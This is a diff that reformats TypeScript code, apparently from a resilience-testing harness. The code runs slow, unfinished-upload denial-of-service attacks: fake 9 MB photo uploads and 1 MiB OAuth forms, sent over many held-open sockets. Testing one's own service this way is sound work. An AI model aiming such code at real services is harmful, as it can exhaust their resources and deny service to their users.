@@ -11,13 +11,22 @@ const sendingMs = 2_500
 type Unfinished = { head: string; part: Buffer; count: number; net: number }
 
 /** So many at once, from 20 addresses; all of them are closed at the end. */
-async function hold({ url }: Site, { head, part, count, net }: Unfinished, tally: Tally, signal: AbortSignal): Promise<void> {
+async function hold(
+  { url }: Site,
+  { head, part, count, net }: Unfinished,
+  tally: Tally,
+  signal: AbortSignal,
+): Promise<void> {
   const until = AbortSignal.any([signal, AbortSignal.timeout(seconds * 1000)])
   await atOnce(count, async (at) => {
     await pause((at * sendingMs) / count, undefined, { signal: until }).catch(() => {})
     if (until.aborted) return
     let text = ''
-    const socket = connect({ host: url.hostname.replace(/^\[|\]$/g, ''), port: Number(url.port || 80), ...sentFrom(url, `127.0.${net}.${(at % 20) + 1}`) })
+    const socket = connect({
+      host: url.hostname.replace(/^\[|\]$/g, ''),
+      port: Number(url.port || 80),
+      ...sentFrom(url, `127.0.${net}.${(at % 20) + 1}`),
+    })
     socket.on('data', (data) => (text += data.toString('latin1')))
     socket.on('error', () => {})
     socket.write(head)
@@ -38,9 +47,21 @@ const head = ({ url }: Site, path: string, fields: Record<string, string>) =>
     .map(([name, value]) => `${name}: ${value}\r\n`)
     .join('')}\r\n`
 function picture(site: Site, token: string | null): Unfinished {
-  const opening = Buffer.from('--x\r\ncontent-disposition: form-data; name="man_photo"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0', 'latin1')
-  const fields = { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(9.5 * mib), ...(token && { authorization: `Bearer ${token}` }) }
-  return { head: head(site, '/org/myinfo_photo', fields), part: Buffer.concat([opening, Buffer.alloc(9 * mib, 'a')]), count: 60, net: token ? 4 : 3 }
+  const opening = Buffer.from(
+    '--x\r\ncontent-disposition: form-data; name="man_photo"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0',
+    'latin1',
+  )
+  const fields = {
+    'content-type': 'multipart/form-data; boundary=x',
+    'content-length': String(9.5 * mib),
+    ...(token && { authorization: `Bearer ${token}` }),
+  }
+  return {
+    head: head(site, '/org/myinfo_photo', fields),
+    part: Buffer.concat([opening, Buffer.alloc(9 * mib, 'a')]),
+    count: 60,
+    net: token ? 4 : 3,
+  }
 }
 const attack = (name: string, make: (site: Site) => Unfinished): Attack => ({
   name,
@@ -55,7 +76,10 @@ export const unfinished: Attack[] = [
   attack('60 unfinished pictures of 9 MB, no token', (site) => picture(site, null)),
   attack('60 unfinished pictures of 9 MB, junk token', (site) => picture(site, 'junk'.repeat(10))),
   attack('200 unfinished forms of 1 MiB', (site) => ({
-    head: head(site, '/oauth/authorize', { 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(mib) }),
+    head: head(site, '/oauth/authorize', {
+      'content-type': 'application/x-www-form-urlencoded',
+      'content-length': String(mib),
+    }),
     part: Buffer.alloc(mib - 1, 'a'),
     count: 200,
     net: 5,
